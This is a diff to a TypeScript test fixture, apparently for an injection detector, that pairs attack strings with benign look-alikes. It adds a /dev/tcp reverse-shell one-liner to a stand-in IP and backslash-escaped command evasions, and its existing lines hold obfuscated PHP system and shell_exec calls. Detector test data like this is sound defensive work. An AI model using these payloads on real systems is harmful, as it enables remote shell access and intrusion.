@@ -48,6 +48,9 @@ const CLASSES: { shape: string; attacks: string[]; benign: string[] }[] = [
       "define('z', [['sys' .'tem']]);(z)[0][0]('uname');",
       "$f = 'pass'.'thru'; $f('id');",
       "('sh'.'ell'.'_exec')('id')",
+      'd=/dev&&(sh)0>$d/tcp/198.51.100.7/777',
+      '\\ls',
+      '\\cat /etc/hostname',
     ],
     benign: [
       '../images/logo.png',
@@ -59,6 +62,9 @@ const CLASSES: { shape: string; attacks: string[]; benign: string[] }[] = [
       "'sys' and 'tem' are fragments",
       "echo 'hello' . 'world'",
       "'file'.'name'",
+      'price > $d/unit',
+      '\\section{ls and cat}',
+      'C:\\ls',
     ],
   },
   {
